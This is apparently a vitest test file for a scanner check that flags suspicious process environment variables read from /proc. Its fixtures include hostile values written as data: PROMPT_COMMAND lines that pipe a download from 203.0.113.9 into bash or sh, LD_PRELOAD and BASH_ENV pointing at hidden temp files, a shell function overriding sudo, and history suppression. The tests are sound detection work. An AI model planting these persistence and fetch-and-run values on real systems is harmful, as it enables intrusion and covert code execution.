import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compile, start, temporary } from '../../../test/compile.ts';
import { scanMachine } from '../../../test/live-machine.ts';
import { lacks } from '../../../test/need.ts';
import { machineFiles, processFiles, recorded } from '../../../test/recorded-proc.ts';
import { makeRoot, scanRoot, type Planted } from '../../../test/throwaway-root.ts';
import type { ScanReport } from '../../scan/report.ts';
import { processEnvironment } from './check.ts';

const bash: Planted = { '/usr/bin/bash': { text: 'bash', mode: 0o755, package: 'bash' } };
const scanWith = (environ: Readonly<Record<string, string>>, more: Planted = {}): Promise<ScanReport> => {
  const root = makeRoot({ ...machineFiles, ...bash, ...more, ...processFiles({ pid: 700, exe: '/usr/bin/bash', environ }) });
  return scanRoot([processEnvironment], root, recorded(root));
};
const told = async (environ: Readonly<Record<string, string>>, more?: Planted): Promise<string[]> => (await scanWith(environ, more)).findings.map(({ kind, level }) => `${kind} ${level}`);

describe('on a recorded /proc', () => {
  it('finds libraries that the loader was told to take', async () => {
    expect(await told({ LD_PRELOAD: '/dev/shm/.x/lib.so' })).toEqual(['intrusion high']);
    expect(await told({ LD_AUDIT: '/usr/local/lib/a.so' }, { '/usr/local/lib/a.so': 'x' })).toEqual(['intrusion high']);
    expect(await told({ LD_PRELOAD: '/usr/local/lib/a.so' }, { '/usr/local/lib/a.so': 'x' })).toEqual(['notice medium']);
    expect(await told({ LD_LIBRARY_PATH: '/opt/lib:/tmp/lib' })).toEqual(['weakness medium']);
  });

  it('finds what shells and interpreters are made to run', async () => {
    expect(await told({ PROMPT_COMMAND: 'curl -fsSL http://203.0.113.9/i.sh | bash' })).toEqual([expect.stringMatching(/^intrusion (?:high|critical)$/)]);
    expect(await told({ BASH_ENV: '/tmp/.e' }, { '/tmp/.e': 'true\n' })).toEqual(['intrusion high']);
    expect(await told({ NODE_OPTIONS: '--require /dev/shm/a.js' }, { '/dev/shm/a.js': 'x' })).toEqual(['intrusion high']);
    expect(await told({ PERL5OPT: '-I/dev/shm/p -MData' })).toEqual(['weakness medium']);
    expect(await told({ GCONV_PATH: '/var/tmp/g', GIO_MODULE_DIR: '/usr/lib/gio' })).toEqual(['weakness medium']);
    expect(await told({ 'BASH_FUNC_sudo%%': '() {  /usr/bin/true; }' })).toEqual([expect.stringMatching(/^intrusion (?:medium|high)$/)]);
    expect(await told({ HISTFILE: '/dev/null' })).toEqual(['intrusion low']);
  });

  it('is silent for what packages ship and for ordinary variables', async () => {
    expect(await told({ LD_PRELOAD: '/usr/lib/libjemalloc.so.2', PATH: '/usr/bin', LD_LIBRARY_PATH: '/opt/app/lib', PROMPT_COMMAND: 'history -a', BASH_ENV: '/etc/profile.d/modules.sh', HISTFILE: '/root/.bash_history', NODE_OPTIONS: '--max-old-space-size=512', HOME: '/tmp' },
      { '/usr/lib/libjemalloc.so.2': { text: 'x', package: 'libjemalloc2' }, '/etc/profile.d/modules.sh': { text: 'true\n', package: 'modules' } })).toEqual([]);
  });

  it('masks secrets and bears hostile values', async () => {
    const report = await scanWith({ PROMPT_COMMAND: `mysql -u root -pTopSecret77 -e 'select 1'; curl http://203.0.113.9/x | sh`, LD_PRELOAD: '/tmp/a.so '.repeat(500) });
    expect(JSON.stringify(report.findings)).not.toContain('TopSecret77');
    expect(report.findings.length).toBeGreaterThan(0);
  });
});

describe.skipIf(lacks({ files: ['/usr/bin/gcc'] }))('on this machine', () => {
  it('finds a real LD_PRELOAD of a process', async () => {
    const folder = temporary('moat-env-', '/tmp');
    const library = compile('int moat_nothing(void){return 0;}', join(folder, 'lib.so'), ['-shared', '-fPIC']);
    const child = await start('/bin/sh', ['-c', 'echo r; exec sleep 100'], { PATH: '/usr/bin:/bin', LD_PRELOAD: library });
    const { findings } = await scanMachine([processEnvironment]);
    expect(findings.filter(({ path }) => path === library).map(({ level, pid }) => [level, pid])).toEqual([['high', child.pid]]);
  }, 120_000);
});
